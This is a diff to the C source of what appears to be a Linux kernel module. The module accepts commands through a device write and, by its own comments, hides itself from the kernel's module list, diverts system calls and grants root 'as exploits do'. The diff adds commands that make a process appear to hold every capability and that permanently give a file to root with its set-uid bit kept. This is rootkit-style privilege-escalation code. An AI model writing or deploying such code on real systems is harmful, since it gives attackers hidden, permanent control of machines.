@@ -10,9 +10,11 @@
  *   divert WHAT HOW ADDRESS ORIGINAL TEXT_POKE
  *                                 have a system call led to this module, see divert.c
  *   entry                         have system calls enter the kernel through this module, on this processor
+ *   unchecked                     have the kernel take this process for one that has every capability
  *   notify                        be called when modules come and go
  *   list WHERE                    be called for another reason, see be_listed()
  *   hide list, hide kset          take this module off the kernel's list of modules, or off the set of their objects
+ *   own PATH                      give a file to root, set-uid as it is, as a copy-up of an overlay does; for good
  *   tamper WHAT                   change what the process may do, for good; see tamper_with()
  *   root INIT_TASK                become root, for good, as exploits do
  *   escape INIT_TASK CODE STACK   the same, and go on at CODE in user mode by an iretq: the write() does not return
@@ -111,6 +113,8 @@ static struct effect *perform(const char *command)
 		return diverted_by(command + 7);
 	if (!strcmp(command, "entry"))
 		return divert_entry();
+	if (!strcmp(command, "unchecked"))
+		return leave_out_checks();
 	if (!strcmp(command, "notify"))
 		return be_notified();
 	if (!strncmp(command, "list ", 5))
@@ -149,6 +153,8 @@ static int escalate(char *command)
 
 	if (!strncmp(command, "tamper ", 7))
 		error = tamper_with(command + 7);
+	if (!strncmp(command, "own ", 4))
+		error = give_to_root(command + 4);
 	kfree(command);
 	if (!known)
 		return error;
@@ -161,7 +167,7 @@ static int escalate(char *command)
 static bool escalates(const char *command)
 {
 	return !strncmp(command, "root ", 5) || !strncmp(command, "escape ", 7) || !strncmp(command, "tamper ", 7) ||
-	       !strncmp(command, "hijack ", 7);
+	       !strncmp(command, "hijack ", 7) || !strncmp(command, "own ", 4);
 }
 
 static ssize_t device_write(struct file *file, const char __user *text, size_t count, loff_t *position)
